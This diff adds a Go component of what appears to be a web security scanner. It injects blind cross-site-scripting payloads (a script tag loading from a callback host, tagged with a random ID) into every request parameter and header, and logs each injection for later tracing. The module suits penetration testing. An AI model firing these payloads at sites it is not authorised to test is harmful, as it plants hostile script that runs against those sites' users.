@@ -0,0 +1,179 @@
+package main
+
+import (
+	"crypto/rand"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+// blindInjection records where a blind payload was sent, so that a later
+// callback carrying its ID can be traced to the URL and parameter.
+type blindInjection struct {
+	ID       string        `json:"id"`
+	Kind     string        `json:"kind,omitempty"` // "ssrf" or "xxe" for -ssrf, empty for blind XSS
+	ScanID   string        `json:"scan_id,omitempty"`
+	URL      string        `json:"url"`
+	Param    string        `json:"param"`
+	Location paramLocation `json:"location"`
+	Method   string        `json:"method,omitempty"`
+	Payload  string        `json:"payload"`
+	Time     time.Time     `json:"time"`
+}
+
+// blindInjector sends a payload loading a script from the -blind callback
+// host to every parameter and logs each injection to a JSONL file.
+type blindInjector struct {
+	callback *url.URL
+	scanID   string
+
+	mu  sync.Mutex
+	log *os.File
+	enc *json.Encoder
+}
+
+func newBlindInjector(callback, logPath, scanID string) (*blindInjector, error) {
+	if !strings.Contains(callback, "://") {
+		callback = "https://" + callback
+	}
+	u, err := url.Parse(callback)
+	if err != nil {
+		return nil, err
+	}
+	if u.Host == "" {
+		return nil, fmt.Errorf("no host in %s", callback)
+	}
+	f, err := os.OpenFile(logPath, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0644)
+	if err != nil {
+		return nil, err
+	}
+	enc := json.NewEncoder(f)
+	enc.SetEscapeHTML(false)
+	return &blindInjector{callback: u, scanID: scanID, log: f, enc: enc}, nil
+}
+
+// newBlindID returns a random ID short enough for a DNS label.
+func newBlindID() string {
+	b := make([]byte, 8)
+	rand.Read(b)
+	return hex.EncodeToString(b)
+}
+
+// payloadURL is the callback URL for id. The ID goes in the path and,
+// unless the callback host is an IP address, also as a subdomain so that
+// a DNS lookup alone is enough to tie a callback to its injection.
+func (b *blindInjector) payloadURL(id string) string {
+	u := *b.callback
+	if net.ParseIP(u.Hostname()) == nil {
+		u.Host = id + "." + u.Host
+	}
+	u.Path = strings.TrimSuffix(u.Path, "/") + "/" + id
+	return u.String()
+}
+
+func (b *blindInjector) payload(id string) string {
+	return `'"><script src="` + b.payloadURL(id) + `"></script>`
+}
+
+// inject sends the payload appended to each parameter of c in turn, then
+// passes c on unchanged.
+func (b *blindInjector) inject(c paramCheck, output chan paramCheck) {
+	defer func() { output <- c }()
+	for _, pc := range testedParams(c) {
+		id := newBlindID()
+		payload := b.payload(id)
+		if err := sendAppended(pc, payload); err != nil {
+			fmt.Fprintf(os.Stderr, "error sending blind payload to %s param %s: %s\n", c.url, pc.param, err)
+			continue
+		}
+		b.record(pc, id, "", payload)
+	}
+}
+
+// record logs that payload carrying id was sent to c's parameter.
+func (b *blindInjector) record(c paramCheck, id, kind, payload string) {
+	rec := blindInjection{
+		ID:       id,
+		Kind:     kind,
+		ScanID:   b.scanID,
+		URL:      c.url,
+		Param:    c.param,
+		Location: c.loc,
+		Payload:  payload,
+		Time:     time.Now().UTC(),
+	}
+	if c.tmpl != nil {
+		rec.Method = c.tmpl.Method
+	}
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	if err := b.enc.Encode(rec); err != nil {
+		fmt.Fprintf(os.Stderr, "error logging blind injection: %s\n", err)
+	}
+}
+
+func (b *blindInjector) close() error {
+	return b.log.Close()
+}
+
+// sendAppended sends c's request once with payload appended to the value
+// of its parameter, or as the value of its header for header checks.
+func sendAppended(c paramCheck, payload string) error {
+	if c.loc == locHeader {
+		c.headerValue = payload
+	}
+	testURL, testBody, err := c.withSuffix(payload)
+	if err != nil {
+		return err
+	}
+	resp, err := c.send(testURL, testBody)
+	if err != nil {
+		return err
+	}
+	return resp.Body.Close()
+}
+
+// testedParams lists every parameter of c that a scan may test, reflected
+// or not: query and form fields, values in structured bodies, and the path
+// segments and headers of -test-path and -test-headers.
+func testedParams(c paramCheck) []paramCheck {
+	var out []paramCheck
+	u, err := url.Parse(c.url)
+	if err != nil {
+		return nil
+	}
+	for key := range u.Query() {
+		out = append(out, paramCheck{url: c.url, param: key, loc: locQuery, tmpl: c.tmpl})
+	}
+	if c.tmpl.hasFormBody() {
+		form, _ := url.ParseQuery(c.tmpl.Body)
+		for key := range form {
+			if !csrf.isToken(key) {
+				out = append(out, paramCheck{url: c.url, param: key, loc: locBody, tmpl: c.tmpl})
+			}
+		}
+	}
+	for _, p := range structuredParams(c.tmpl) {
+		out = append(out, paramCheck{url: c.url, param: p.name, loc: p.loc, tmpl: c.tmpl})
+	}
+	if testPath {
+		_, path, _ := splitPath(c.url)
+		for i, seg := range strings.Split(path, "/") {
+			if i > 0 && seg != "" {
+				out = append(out, paramCheck{url: c.url, param: strconv.Itoa(i), loc: locPath, tmpl: c.tmpl})
+			}
+		}
+	}
+	for _, name := range testHeaders {
+		out = append(out, paramCheck{url: c.url, param: http.CanonicalHeaderKey(name), loc: locHeader, tmpl: c.tmpl})
+	}
+	return out
+}